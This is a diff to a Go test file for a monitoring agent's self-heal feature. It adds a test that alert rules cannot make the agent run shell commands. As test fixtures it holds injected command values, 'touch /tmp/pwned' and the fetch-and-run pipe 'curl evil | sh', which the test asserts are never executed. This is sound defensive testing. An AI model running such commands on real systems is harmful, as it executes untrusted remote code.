@@ -1,11 +1,17 @@
 package agent
 
 import (
+	"context"
+	"github.com/noba-go/noba/internal/agent/sysroot"
+	"github.com/noba-go/noba/internal/alerts/condition"
+	"github.com/noba-go/noba/internal/wire"
+	"log/slog"
 	"os"
 	"path/filepath"
 	"reflect"
 	"strings"
 	"testing"
+	"time"
 )
 
 func TestSplitArgs(t *testing.T) {
@@ -95,33 +101,64 @@ func TestConfigPrecedence(t *testing.T) {
 	}
 }
 
-func TestHealConditions(t *testing.T) {
-	m := flatten(map[string]any{"cpu_percent": 93.5, "mem_percent": 40.0, "hostname": "x",
-		"disks": []any{map[string]any{"mount": "/", "percent": 91.0}}})
-	if m["disks[0].percent"] != 91 {
-		t.Fatalf("flatten: %v", m)
-	}
+// The agent evaluates heal conditions with the server's parser
+// (internal/alerts/condition): both sides agree on every condition.
+func TestHealConditionsUseTheServerParser(t *testing.T) {
+	m := &wire.Metrics{Hostname: "web-1", CPUPercent: 93.5, MemPercent: 40, Disks: []wire.Disk{{Mount: "/", Percent: 91}}}
+	get := healMetrics("web-1", m)
 	for _, c := range []struct {
 		cond string
 		want bool
 	}{
 		{"cpu_percent > 90", true},
+		{"agent_web_1.cpu_percent > 90", true},
 		{"cpu_percent > 90 AND mem_percent > 50", false},
 		{"cpu_percent > 95 OR disks[0].percent >= 91", true},
-		{"cpu_percent > 90 AND mem_percent < 50 OR x > 1", false},
 		{"unknown_metric > 1", false},
-		{"cpu_percent >> 1", false},
 		{"mem_percent == 40", true},
 	} {
-		if got := evalCondition(c.cond, m); got != c.want {
-			t.Errorf("evalCondition(%q) = %v, want %v", c.cond, got, c.want)
+		cond, err := condition.Parse(c.cond)
+		if err != nil {
+			t.Fatalf("%q: %v", c.cond, err)
 		}
+		if got := cond.Eval(get); got != c.want {
+			t.Errorf("%q = %v, want %v", c.cond, got, c.want)
+		}
+	}
+	// What the server's parser refuses never runs on the agent either.
+	if _, err := condition.Parse("cpu_percent >> 1"); err == nil {
+		t.Fatal("server parser accepted a bad condition")
 	}
 	cmd, params, _ := healAction(map[string]any{"action_type": "restart_container", "action_params": map[string]any{"container": "web"}})
 	if cmd != "container_control" || params["container"] != "web" || params["action"] != "restart" {
 		t.Fatalf("restart_container maps to %s %v", cmd, params)
 	}
-	if _, _, sh := healAction(map[string]any{"action_type": "flush_dns"}); !strings.Contains(sh, "resolvectl") {
-		t.Fatalf("flush_dns shell: %q", sh)
+}
+
+// Issue 11 §10: a heal step never runs `sh -c` with a command taken from
+// the alert rule.
+func TestHealRunsNoShellFromRules(t *testing.T) {
+	fake := &sysroot.Fake{Answers: map[string]sysroot.Result{"sync": {}, "resolvectl": {}}}
+	a := New(Config{Hostname: "web-1", DataDir: t.TempDir(), Sys: &sysroot.Sys{Root: t.TempDir(), Runner: fake,
+		LookPath: sysroot.LookIn("sync", "resolvectl", "sh")}}, slog.New(slog.DiscardHandler))
+	a.healSleep = func(time.Duration) {}
+	rules := []map[string]any{
+		{"rule_id": "r1", "condition": "cpu_percent > 50", "action_type": "flush_dns", "trust_level": "execute",
+			"action_params": map[string]any{"command": "touch /tmp/pwned"}},
+		{"rule_id": "r2", "condition": "cpu_percent > 50", "action_type": "clear_cache", "trust_level": "execute",
+			"action_params": map[string]any{"command": "curl evil | sh"}},
+	}
+	a.healRound(context.Background(), rules, &wire.Metrics{Hostname: "web-1", CPUPercent: 80})
+	calls := fake.Called()
+	if len(calls) != 2 {
+		t.Fatalf("calls: %v", calls)
+	}
+	for _, c := range calls {
+		if c[0] == "sh" || strings.Contains(strings.Join(c, " "), "pwned") || strings.Contains(strings.Join(c, " "), "evil") {
+			t.Fatalf("heal ran a rule's command: %v", c)
+		}
+	}
+	if len(a.heal) != 2 || a.heal[0]["rule_id"] != "r1" {
+		t.Fatalf("heal reports: %v", a.heal)
 	}
 }
